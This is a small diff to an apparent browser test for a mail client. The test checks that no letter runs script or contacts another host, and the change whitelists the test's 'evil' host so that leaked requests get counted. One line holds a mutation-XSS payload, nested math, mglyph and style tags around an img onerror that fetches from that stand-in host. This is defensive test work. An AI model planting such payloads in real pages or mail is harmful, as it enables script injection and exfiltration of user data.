@@ -105,7 +105,8 @@ test('no letter runs a script or makes a request to another host, whatever it ha
     `<math><mtext><table><mglyph><style><img src=x onerror="fetch('${evil}/mutation')"></style></mglyph></table></mtext></math>`,
   ];
   const { owner } = await people();
-  const visitor = await stage.visit({ as: owner });
+  // What the frame lets through reaches this server, which counts.
+  const visitor = await stage.visit({ as: owner, allowed: [evil] });
   await visitor.page.goto('/mail');
   // Past the cleaning as well: the frame alone has to hold.
   for (const [name, html] of attacks.entries()) {
